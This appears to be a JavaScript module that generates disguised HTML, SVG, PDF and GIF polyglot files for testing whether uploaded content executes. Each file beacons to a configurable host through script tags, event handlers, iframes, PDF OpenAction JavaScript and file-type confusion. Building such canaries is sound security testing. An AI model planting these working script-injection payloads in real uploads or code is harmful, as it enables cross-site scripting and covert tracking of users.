/** Files that would call home if anything in them ran. */

/** Tries whatever a script may try; each way says which file it came from. */
const script = (home, name) => `(function () {
  var at = '${home}/ran/${name}/'
  try { fetch(at + 'fetch', { mode: 'no-cors' }) } catch (error) {}
  try { new Image().src = at + 'image' } catch (error) {}
  try { navigator.sendBeacon(at + 'beacon') } catch (error) {}
  try { var xhr = new XMLHttpRequest(); xhr.open('GET', at + 'xhr'); xhr.send() } catch (error) {}
  try { top.location = at + 'top' } catch (error) {}
})()`

const html = (home, name) => `<!doctype html><title>${name}</title>
<script>${script(home, `${name}-script`)}</script>
<img src="x:" onerror="fetch('${home}/ran/${name}-onerror/', {mode:'no-cors'})">
<img src="${home}/ran/${name}-load/image"><link rel="stylesheet" href="${home}/ran/${name}-load/style">
<iframe srcdoc="<script>fetch('${home}/ran/${name}-srcdoc/')</script>"></iframe>
<iframe src="javascript:fetch('${home}/ran/${name}-url/')"></iframe>
<form id="f" action="${home}/ran/${name}-form/"></form><script>f.submit()</script>
<meta http-equiv="refresh" content="0;url=${home}/ran/${name}-refresh/">`

const svg = (home, name) => `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"
 onload="fetch('${home}/ran/${name}-onload/', {mode:'no-cors'})">
<script>${script(home, `${name}-script`)}</script>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="fetch('${home}/ran/${name}-body/')"/></foreignObject>
</svg>`

const pdf = (home, name) => `%PDF-1.7
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</O 4 0 R>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>> endobj
4 0 obj <</S/JavaScript/JS(app.launchURL\\('${home}/ran/${name}-launch/'\\);this.submitForm\\('${home}/ran/${name}-submit/'\\))>> endobj
trailer <</Root 1 0 R>>
`

/** Name, bytes, and as what it runs where nothing keeps it from it. */
export function payloads(home) {
  const gif = 'GIF89a/*\u0001\u0001\u0000\u0000*/=1;'
  const all = [
    ['page.html', html(home, 'page'), 'text/html'],
    ['picture.svg', svg(home, 'picture'), 'image/svg+xml'],
    ['renamed.xhtml', html(home, 'renamed'), 'text/html'],
    ['photo.png', html(home, 'photo'), 'text/html'],
    ['notes.txt', html(home, 'notes'), 'text/html'],
    ['drawing.png', svg(home, 'drawing'), 'image/svg+xml'],
    ['data.xml', svg(home, 'data'), 'application/xml'],
    ['paper.pdf', `${pdf(home, 'paper')}${html(home, 'paper')}`, 'text/html'],
    ['moving.gif', `${gif}${script(home, 'moving-script')}//`, 'text/javascript'],
    ['both.gif', `${gif}//${html(home, 'both')}`, 'text/html'],
  ]
  return all.map(([name, text, runsAs]) => ({ name, bytes: Buffer.from(text, 'latin1'), runsAs }))
}
